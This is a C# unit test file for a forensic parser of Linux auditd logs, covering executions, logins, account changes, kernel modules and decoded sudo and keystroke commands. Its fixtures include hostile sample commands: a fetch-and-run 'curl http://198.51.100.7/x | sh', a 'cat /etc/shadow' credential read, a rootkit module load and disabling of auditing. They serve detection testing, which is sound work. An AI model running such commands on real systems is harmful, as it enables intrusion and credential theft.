using Forensics.Parsers.Artifacts.Linux.Logs;
using Xunit;

namespace Forensics.Parsers.Tests.Artifacts.Linux.Logs;

/// <summary>Records of the audit system as auditd writes them, raw and enriched.</summary>
public sealed class AuditLogParserTests
{
    private const string Gs = "\u001D";

    [Fact]
    public void An_execution_is_put_together_from_its_records_although_others_lie_between()
    {
        LogEvent found = Assert.Single(Read("""
            type=SYSCALL msg=audit(1710000000.123:901): arch=c000003e syscall=59 success=yes exit=0 a0=1 a1=2 items=2 ppid=1 pid=4242 auid=1000 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts1 ses=3 comm="sh" exe="/usr/bin/dash" key="exec"
            type=EXECVE msg=audit(1710000000.123:901): argc=3 a0="sh" a1="-c" a2=6375726C20687474703A2F2F3139382E35312E3130302E372F78207C207368
            type=CWD msg=audit(1710000000.123:901): cwd="/tmp"
            type=SYSCALL msg=audit(1710000000.124:902): arch=c000003e syscall=2 success=yes exit=3 items=1 ppid=1 pid=1 auid=4294967295 uid=0 tty=(none) comm="x" exe="/x" key=(null)
            type=PATH msg=audit(1710000000.123:901): item=0 name="/usr/bin/sh" inode=12 dev=08:01 mode=0100755 ouid=0 ogid=0
            type=PROCTITLE msg=audit(1710000000.123:901): proctitle=7368002D63
            type=EOE msg=audit(1710000000.123:901):

            """));

        Assert.Equal(LogEventKind.Execution, found.Event);
        Assert.Equal("sh -c 'curl http://198.51.100.7/x | sh'", found.Command);
        Assert.Equal((1000L, 4242L, "/usr/bin/dash", "/usr/bin/sh", "exec", "as uid 0; in /tmp"), (found.UserId!.Value, found.ProcessId!.Value, found.Process, found.Target, found.Method, found.Detail));
        Assert.Equal("2024-03-09T16:00:00.123000000Z", found.First!.Value.Instant.ToString());
        Assert.Equal((LogTimePrecision.Millisecond, LogTimeBasis.Stated), (found.First.Value.Precision, found.First.Value.Basis));
        Assert.Equal(1, found.Location.Line);
    }

    [Fact]
    public void An_argument_that_is_cut_into_pieces_is_joined()
    {
        LogEvent found = Assert.Single(Read("""
            type=EXECVE msg=audit(1710000000.123:901): argc=2 a0="echo" a1_len=8 a1[0]=41424344
            type=EXECVE msg=audit(1710000000.123:901): a1[1]=45464748

            """));

        Assert.Equal("echo ABCDEFGH", found.Command);
    }

    [Theory]
    [InlineData("type=USER_LOGIN msg=audit(1710000000.1:9): pid=5 uid=0 auid=1000 ses=3 msg='op=login id=1000 exe=\"/usr/sbin/sshd\" hostname=192.0.2.7 addr=192.0.2.7 terminal=/dev/pts/0 res=success'\u001DUID=\"root\" AUID=\"bob\" ID=\"bob\"", LogEventKind.Login, "bob", "192.0.2.7")]
    [InlineData("type=USER_LOGIN msg=audit(1710000000.1:9): pid=5 uid=0 auid=4294967295 ses=4294967295 msg='op=login acct=\"root\" exe=\"/usr/sbin/sshd\" hostname=? addr=203.0.113.9 terminal=sshd res=failed'", LogEventKind.LoginFailed, "root", "203.0.113.9")]
    [InlineData("type=USER_LOGIN msg=audit(1710000000.1:9): pid=5 uid=0 auid=4294967295 ses=4294967295 msg='op=login acct=28696E76616C6964207573657229 exe=\"/usr/sbin/sshd\" hostname=? addr=203.0.113.9 terminal=sshd res=failed'", LogEventKind.LoginFailed, "(invalid user)", "203.0.113.9")]
    [InlineData("type=USER_AUTH msg=audit(1710000000.1:9): pid=5 uid=0 auid=4294967295 ses=4294967295 msg='op=PAM:authentication grantors=? acct=\"root\" exe=\"/usr/sbin/sshd\" hostname=203.0.113.9 addr=203.0.113.9 terminal=ssh res=failed'", LogEventKind.LoginFailed, "root", "203.0.113.9")]
    [InlineData("node=web01 type=USER_START msg=audit(1710000000.1:9): pid=5 uid=0 auid=0 ses=3 msg='op=PAM:session_open grantors=pam_unix acct=\"root\" exe=\"/usr/sbin/cron\" hostname=? addr=? terminal=cron res=success'", LogEventKind.SessionOpened, "root", null)]
    public void Logins_and_sessions_name_account_and_address(string record, LogEventKind kind, string user, string? address)
    {
        LogEvent found = Assert.Single(Read(record + "\n"));

        Assert.Equal((kind, user, address), (found.Event, found.User, found.RemoteAddress));
    }

    [Theory]
    [InlineData("type=ADD_USER msg=audit(1710000000.1:9): pid=5 uid=0 auid=1000 ses=3 msg='op=add-user acct=\"eve\" exe=\"/usr/sbin/useradd\" hostname=h addr=? terminal=pts/0 res=success'", LogEventKind.AccountCreated, "eve", "/usr/sbin/useradd")]
    [InlineData("type=ADD_USER msg=audit(1710000000.1:9): pid=5 uid=0 auid=1000 ses=3 msg='op=add-user id=1001 exe=\"/usr/sbin/useradd\" hostname=h addr=? terminal=pts/0 res=success'", LogEventKind.AccountCreated, "uid 1001", "/usr/sbin/useradd")]
    [InlineData("type=DEL_USER msg=audit(1710000000.1:9): pid=5 uid=0 auid=1000 ses=3 msg='op=delete-user id=1001 exe=\"/usr/sbin/userdel\" hostname=h addr=? terminal=pts/0 res=success'", LogEventKind.AccountDeleted, "uid 1001", "/usr/sbin/userdel")]
    [InlineData("type=USER_CHAUTHTOK msg=audit(1710000000.1:9): pid=5 uid=0 auid=1000 ses=3 msg='op=PAM:chauthtok grantors=pam_unix acct=\"root\" exe=\"/usr/bin/passwd\" hostname=h addr=? terminal=pts/0 res=success'", LogEventKind.PasswordChanged, "root", "/usr/bin/passwd")]
    [InlineData("type=GRP_MGMT msg=audit(1710000000.1:9): pid=5 uid=0 auid=1000 ses=3 msg='op=add-user-to-group grp=\"wheel\" acct=\"eve\" exe=\"/usr/sbin/usermod\" hostname=h addr=? terminal=pts/0 res=success'", LogEventKind.GroupChanged, "wheel", "/usr/sbin/usermod")]
    [InlineData("type=KERN_MODULE msg=audit(1710000000.1:9): name=\"diamorphine\"", LogEventKind.KernelModule, "diamorphine", null)]
    [InlineData("type=CONFIG_CHANGE msg=audit(1710000000.1:9): auid=0 ses=3 op=set audit_enabled=0 old=1 res=1", LogEventKind.LoggerChanged, "CONFIG_CHANGE", null)]
    [InlineData("type=DAEMON_END msg=audit(1710000000.1:9): op=terminate auid=0 pid=1 res=success", LogEventKind.LoggerChanged, "DAEMON_END", null)]
    public void Accounts_modules_and_the_audit_system_itself(string record, LogEventKind kind, string target, string? process)
    {
        LogEvent found = Assert.Single(Read(record + "\n"));

        Assert.Equal((kind, target, process), (found.Event, found.Target, found.Process));
    }

    [Fact]
    public void Commands_of_sudo_and_keystrokes_are_decoded()
    {
        List<LogEvent> found = Read("""
            type=USER_CMD msg=audit(1710000000.1:9): pid=5 uid=1000 auid=1000 ses=3 msg='cwd="/root" cmd=636174202F6574632F736861646F77 exe="/usr/bin/sudo" terminal=pts/0 res=success'
            type=TTY msg=audit(1710000001.1:10): tty pid=7 uid=0 auid=1000 ses=3 major=136 minor=0 comm="bash" data=6964

            """);

        Assert.Equal(("cat /etc/shadow", 1000L), (found[0].Command, found[0].UserId!.Value));
        Assert.Equal((LogEventKind.HistoryCommand, "id"), (found[1].Event, found[1].Command));
    }

    [Fact]
    public void The_enriched_names_are_used()
    {
        LogEvent found = Assert.Single(Read("type=SYSCALL msg=audit(1710000000.1:9): arch=c000003e syscall=257 success=no exit=-13 items=1 pid=9 auid=1000 uid=33 tty=(none) comm=\"cat\" exe=\"/usr/bin/cat\" key=\"shadow\""
            + Gs + "ARCH=x86_64 SYSCALL=openat AUID=\"bob\" UID=\"www-data\"\ntype=PATH msg=audit(1710000000.1:9): item=0 name=\"/etc/shadow\" inode=1" + Gs + "OUID=\"root\"\n"));

        Assert.Equal((LogEventKind.AuditedAction, "bob", "/etc/shadow", "shadow"), (found.Event, found.User, found.Target, found.Method));
        Assert.StartsWith("refused", found.Detail, StringComparison.Ordinal);
    }

    [Fact]
    public void Cut_records_and_events_that_never_end_take_bounded_room()
    {
        var text = new System.Text.StringBuilder();
        for (int i = 0; i < 20_000; i++)
        {
            text.Append(System.Globalization.CultureInfo.InvariantCulture, $"type=EXECVE msg=audit(1710000000.1:{i}): argc=1 a0=\"x\"\n");
        }
        string[] cut = ["type=", "type=X msg=audit(", "type=X msg=audit(1.1:1", "type=EXECVE msg=audit(1710000000.1:1): a0=", "type=EXECVE msg=audit(1710000000.1:1): a0=\"", "type=USER_LOGIN msg=audit(99999999999999999.1:1): x"];

        List<LogEvent> found = Read(text + string.Join('\n', cut) + "\n");

        Assert.Equal(20_000, found.Where(e => e.Command == "x").Sum(e => e.Count));
    }

    private static List<LogEvent> Read(string text) => LogRun.Read(new AuditLogParser(), text, "/var/log/audit/audit.log").Events;
}
